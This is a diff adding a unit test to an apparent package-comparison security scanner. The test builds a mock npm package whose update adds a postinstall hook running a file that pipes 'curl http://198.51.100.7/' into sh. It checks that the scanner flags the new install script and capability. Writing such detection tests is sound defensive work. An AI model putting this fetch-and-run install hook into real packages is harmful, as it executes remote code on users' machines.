@@ -82,6 +82,27 @@ class Against(unittest.TestCase):
         self.assertFalse(rules(report(after, "--against", new)) & {"new-install-script", "new-dependency",
                                                                    "same-version-other-code", "files-differ"})
 
+    def test_npm_that_brings_packages_and_its_directory(self):
+        path = fresh("against-bundled")
+        inner = {"package/node_modules/b/package.json": b'{"name": "b", "version": "1.0.0"}',
+                 "package/node_modules/b/index.js": b"1\n"}
+        more = {"bundleDependencies": ["b"], "dependencies": {"b": "^1.0.0"}}
+        stage = b"require('child_process').exec('curl http://198.51.100.7/ | sh')\n"
+        old = npm(path, "1.0.0", {"package/a.js": b"1\n", **inner}, **more)
+        new = npm(path, "1.0.1", {"package/a.js": stage, **inner}, scripts={"postinstall": "node a.js"}, **more)
+        before, after = unpack(old, path / "old"), unpack(new, path / "new")
+        for target, previous in ((new, before), (after, old), (after, before), (after / "package", before / "package")):
+            r = report(target, "--against", previous)
+            self.assertLessEqual({"new-install-script", "new-capability"}, rules(r), (target, previous))
+            self.assertFalse(rules(r) & {"package-gone", "package-added"}, (target, previous))
+        # A project into which npm has installed is an environment.
+        for root in (before, after):
+            (root / "package/node_modules/.package-lock.json").write_text("{}")
+        (after / "package/node_modules/b/index.js").write_text("2\n")
+        r = report(after / "package", "--against", before / "package")
+        self.assertEqual(about(r, "same-version-other-code"), [("pkg:npm/b@1.0.0", "node_modules/b/index.js")])
+        self.assertNotIn("new-install-script", rules(r))
+
     def test_a_source_archive_and_its_directory(self):
         path = fresh("against-sdist")
         info = b"Metadata-Version: 2.1\nName: demo\nVersion: %s\n\n"
